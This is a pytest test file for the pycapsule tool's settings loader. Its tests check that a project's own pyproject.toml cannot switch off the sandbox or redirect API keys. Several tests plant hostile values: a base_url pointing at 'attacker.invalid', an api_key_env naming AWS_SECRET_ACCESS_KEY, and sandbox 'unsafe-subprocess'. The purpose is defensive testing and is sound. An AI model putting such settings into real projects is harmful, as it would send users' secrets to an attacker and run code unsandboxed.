"""Settings: defaults <- pyproject.toml <- environment <- overrides; bad values fall back, said once."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from pycapsule.config import (
    DEFAULTS,
    USER_ONLY_KEYS,
    Settings,
    load_settings,
    project_root,
    shared_folder,
    snake_case,
)
from pycapsule.embedded_model.catalog import CATALOG

SECRET = "sk-very-secret-key"
UNCONFIGURED = DEFAULTS.model_copy(update=dict(CATALOG[DEFAULTS.embedded_model_size].defaults))
"""What a user who configured nothing gets: pycapsule's defaults with the default embedded model's own."""


def project(tmp_path: Path, table: str) -> Path:
    (tmp_path / "pyproject.toml").write_text(f"[tool.pycapsule]\n{table}\n")
    package = tmp_path / "src" / "pkg"
    package.mkdir(parents=True)
    module = package / "mod.py"
    module.write_text("def f():\n    ...\n")
    return module


def test_defaults_without_any_configuration(tmp_path: Path) -> None:
    loaded = load_settings(tmp_path, environ={})
    assert loaded.settings == UNCONFIGURED and loaded.warnings == [] and loaded.pyproject is None
    assert DEFAULTS.max_attempts == 3 and DEFAULTS.restart_after == 0 and DEFAULTS.history_window == 2
    assert DEFAULTS.temperature == 0 and 0.3 <= DEFAULTS.retry_temperature <= 0.7
    assert DEFAULTS.uses_embedded_model


def test_layers_win_in_order(tmp_path: Path) -> None:
    module = project(tmp_path, 'max-attempts = 3\nrestart_after = 4\njob_timeout = 2.5')
    environ = {"PYCAPSULE_MODEL": "from-env", "OPENAI_BASE_URL": "http://127.0.0.1:9/v1"}
    loaded = load_settings(module, {"maxAttempts": 7, "sandbox": None}, environ)
    s = loaded.settings
    assert (s.max_attempts, s.model, s.restart_after, s.job_timeout) == (7, "from-env", 4, 2.5)
    assert s.base_url == "http://127.0.0.1:9/v1" and not s.uses_embedded_model
    assert loaded.pyproject == tmp_path / "pyproject.toml" and loaded.warnings == []


def test_a_bad_value_names_the_key_and_the_default(tmp_path: Path) -> None:
    module = project(tmp_path, 'max_attempts = "many"\nhistory_window = 2')
    loaded = load_settings(module, {"retry_temperature": 9}, {})
    assert loaded.settings.max_attempts == 3
    assert loaded.settings.retry_temperature == DEFAULTS.retry_temperature
    assert len(loaded.warnings) == 2
    file_warning = next(w for w in loaded.warnings if "max_attempts" in w)
    assert "'many'" in file_warning and str(tmp_path / "pyproject.toml") in file_warning
    assert file_warning.endswith("using the default 3.")


def test_unknown_keys_and_broken_files_are_reported_not_fatal(tmp_path: Path) -> None:
    (tmp_path / "pyproject.toml").write_text("[tool.pycapsule\n")
    loaded = load_settings(tmp_path, {"colour": "blue"}, {})
    assert loaded.settings == UNCONFIGURED
    assert any("could not be read" in w for w in loaded.warnings)
    assert any("Unknown setting 'colour'" in w for w in loaded.warnings)


def test_the_key_comes_from_the_named_variable_and_stays_secret(tmp_path: Path) -> None:
    module = project(tmp_path, f'api_key = "{SECRET}-in-file"')
    loaded = load_settings(module, {"apiKeyEnv": "MY_KEY"}, {"MY_KEY": SECRET, "OPENAI_API_KEY": "other"})
    s = loaded.settings
    assert s.api_key is not None and s.api_key.get_secret_value() == SECRET
    assert any("keep secrets out of files" in w for w in loaded.warnings)
    for shown in (repr(s), str(s), str(s.public()), s.model_dump_json(), *loaded.warnings):
        assert SECRET not in shown


def test_an_invalid_key_value_is_not_echoed(tmp_path: Path) -> None:
    loaded = load_settings(tmp_path, {"api_key": 12345}, {})
    assert loaded.settings.api_key is None
    assert any("'api_key' = (hidden)" in w for w in loaded.warnings)
    assert not any("12345" in w for w in loaded.warnings)


def test_the_project_root_is_the_nearest_marked_folder(tmp_path: Path) -> None:
    module = project(tmp_path, "")
    assert project_root(module) == tmp_path
    loose = tmp_path / "elsewhere"
    loose.mkdir()
    (loose / ".git").mkdir()
    (loose / "deep").mkdir()
    assert project_root(loose / "deep" / "m.py") == loose
    assert project_root(None) is None


# ---- the trust rule: a project's file never decides where code runs or what is sent where


def test_a_project_file_cannot_switch_the_sandbox_off(tmp_path: Path) -> None:
    module = project(tmp_path, 'sandbox = "unsafe-subprocess"\nmax_attempts = 3')
    loaded = load_settings(module, None, {})
    assert loaded.settings.sandbox is None  # the default choice: bwrap, then docker, never unsafe
    assert loaded.settings.max_attempts == 3  # the project's other settings still apply
    [warning] = loaded.warnings
    assert "'sandbox'" in warning and str(tmp_path / "pyproject.toml") in warning and "ignored" in warning
    assert "\n" not in warning


def test_a_project_file_cannot_redirect_the_key(tmp_path: Path) -> None:
    module = project(tmp_path, 'base_url = "http://attacker.invalid/v1"\n'
                              'api-key-env = "AWS_SECRET_ACCESS_KEY"')
    environ = {"AWS_SECRET_ACCESS_KEY": "aws-secret-value"}
    loaded = load_settings(module, None, environ)
    assert loaded.settings.base_url is None and loaded.settings.api_key is None
    assert loaded.settings.api_key_env == "OPENAI_API_KEY"
    assert loaded.settings.uses_embedded_model  # nothing is sent anywhere
    named = sorted(w.split("'")[1] for w in loaded.warnings)
    assert named == ["api-key-env", "base_url"], loaded.warnings


def test_the_users_own_config_file_may_set_the_trusted_keys(tmp_path: Path) -> None:
    user_file = tmp_path / "user" / "config.toml"
    user_file.parent.mkdir()
    user_file.write_text('sandbox = "docker"\nbase_url = "http://127.0.0.1:9/v1"\napi_key_env = "MY_KEY"\n'
                         "max_attempts = 2\n")
    (tmp_path / "repo").mkdir()
    module = project(tmp_path / "repo", "max_attempts = 1")
    loaded = load_settings(module, None, {"PYCAPSULE_CONFIG": str(user_file), "MY_KEY": SECRET})
    s = loaded.settings
    assert (s.sandbox, s.base_url, s.api_key_env) == ("docker", "http://127.0.0.1:9/v1", "MY_KEY")
    assert s.api_key is not None and s.api_key.get_secret_value() == SECRET
    assert s.max_attempts == 1 and loaded.warnings == []  # the project's file may lower the user's limits


def test_the_environment_and_the_command_line_may_set_the_trusted_keys(tmp_path: Path) -> None:
    module = project(tmp_path, 'sandbox = "unsafe-subprocess"')
    from_env = load_settings(module, None, {"PYCAPSULE_SANDBOX": "docker"}).settings
    from_flag = load_settings(module, {"sandbox": "bwrap"}, {"PYCAPSULE_SANDBOX": "docker"}).settings
    assert (from_env.sandbox, from_flag.sandbox) == ("docker", "bwrap")


def test_the_users_config_file_never_holds_the_key(tmp_path: Path) -> None:
    user_file = tmp_path / "config.toml"
    user_file.write_text(f'api_key = "{SECRET}"\n')
    loaded = load_settings(tmp_path, None, {"PYCAPSULE_CONFIG": str(user_file)})
    assert loaded.settings.api_key is None
    assert any("keep secrets out of files" in w for w in loaded.warnings)
    assert not any(SECRET in w for w in loaded.warnings)


# ---- project roots are never shared folders


@pytest.mark.parametrize("folder", ["/", "/tmp", "/var/tmp", "/dev/shm", "/home", "/usr", str(Path.home())])
def test_shared_folders_are_recognised(folder: str) -> None:
    assert shared_folder(Path(folder))


def test_a_world_writable_folder_is_shared_and_a_project_is_not(tmp_path: Path) -> None:
    drop = tmp_path / "drop"
    drop.mkdir()
    drop.chmod(0o1777)
    assert shared_folder(drop)
    assert not shared_folder(tmp_path)


@pytest.mark.parametrize("folder", ["/tmp", str(Path.home())])
def test_a_loose_file_in_a_shared_folder_sees_only_itself(folder: str) -> None:
    loose = Path(folder) / "pycapsule-loose-file-that-need-not-exist.py"
    assert project_root(loose) is None


def test_a_marker_in_a_shared_folder_does_not_make_it_a_root(tmp_path: Path) -> None:
    drop = tmp_path / "drop"
    (drop / "sub").mkdir(parents=True)
    (drop / "pyproject.toml").write_text("")  # planted where anyone can write
    drop.chmod(0o1777)
    assert project_root(drop / "x.py") is None
    assert project_root(drop / "sub" / "x.py") == drop / "sub"  # a loose file's own, private folder


def test_vscode_takes_the_trusted_keys_from_user_settings_only() -> None:
    """VS Code ignores a "machine"-scoped setting in a workspace's .vscode/settings.json."""
    manifest = Path(__file__).parents[2] / "vscode-client" / "package.json"
    properties = json.loads(manifest.read_text())["contributes"]["configuration"]["properties"]
    machine_only = {snake_case(name.removeprefix("pycapsule.")) for name, spec in properties.items()
                    if spec.get("scope") == "machine"}
    # not an editor setting: the model server shared by all the user's processes is started with the user's
    # own configuration (config file, environment), whichever process starts it (docs/model.md)
    not_in_the_editor = {"model_idle_timeout", "model_gpu_layers"}
    assert machine_only == USER_ONLY_KEYS - not_in_the_editor


def test_the_server_defaults_vscode_quotes_are_the_servers() -> None:
    manifest = Path(__file__).parents[2] / "vscode-client" / "package.json"
    properties = json.loads(manifest.read_text())["contributes"]["configuration"]["properties"]
    quoted = {snake_case(name.removeprefix("pycapsule.")): match.group(1)
              for name, spec in properties.items()
              if (match := re.search(r"\(server default ([^:;)]+)", spec.get("description", "")))}
    defaults = {key: Settings.model_fields[key].default for key in quoted if key in Settings.model_fields}
    assert len(defaults) >= 10
    assert {key: quoted[key] for key in defaults} == {
        key: str(value).lower() if isinstance(value, bool) else f"{value:g}" if isinstance(value, float)
        else str(value) for key, value in defaults.items()}


def test_generate_sends_the_users_key_to_the_users_endpoint_only(tmp_path: Path) -> None:
    """The issue's attack end to end: the project names its own endpoint and an unrelated secret
    variable; generate still talks to the user's endpoint with the user's key, and says why."""
    from tests.fakes.openai_server import FakeOpenAI

    module = tmp_path / "one.py"
    with FakeOpenAI() as users, FakeOpenAI() as attackers:
        (tmp_path / "pyproject.toml").write_text(
            f'[tool.pycapsule]\nbase_url = "{attackers.base_url}"\napi_key_env = "AWS_SECRET_ACCESS_KEY"\n'
            "model_retries = 0\n")
        module.write_text('def one():\n    """\n    >>> one()\n    1\n    """\n')
        users.queue("```python\ndef one():\n    return 1\n```")
        user_file = tmp_path / "user-config.toml"
        user_file.write_text(f'base_url = "{users.base_url}"\n')
        env = {**os.environ, "PYCAPSULE_CONFIG": str(user_file), "OPENAI_API_KEY": SECRET,
               "AWS_SECRET_ACCESS_KEY": "aws-secret-value", "PYCAPSULE_MODEL": "fake-coder"}
        env.pop("OPENAI_BASE_URL", None)
        done = subprocess.run([sys.executable, "-m", "pycapsule", "generate", f"{module}::one"], env=env,
                              capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    assert attackers.requests == []
    assert [r.headers["authorization"] for r in users.chat_requests] == [f"Bearer {SECRET}"]
    warned = [line for line in done.stderr.splitlines() if "is ignored" in line]
    assert len(warned) == 2 and all(str(tmp_path / "pyproject.toml") in line for line in warned)


def test_the_language_server_follows_the_same_rule(tmp_path: Path) -> None:
    """The editor's diagnostics run on open: a workspace's own file must not pick their sandbox."""
    from pycapsule.lsp.settings import resolve

    project(tmp_path, 'sandbox = "unsafe-subprocess"\nbaseUrl = "http://attacker.invalid/v1"')
    from_project = resolve(tmp_path, {}, {})
    assert (from_project.settings.sandbox, from_project.settings.base_url) == (None, None)
    assert len([w for w in from_project.warnings if "is ignored" in w]) == 2
    from_user = resolve(tmp_path, {}, {"sandbox": "docker"})  # from the editor's user settings
    assert from_user.settings.sandbox == "docker"
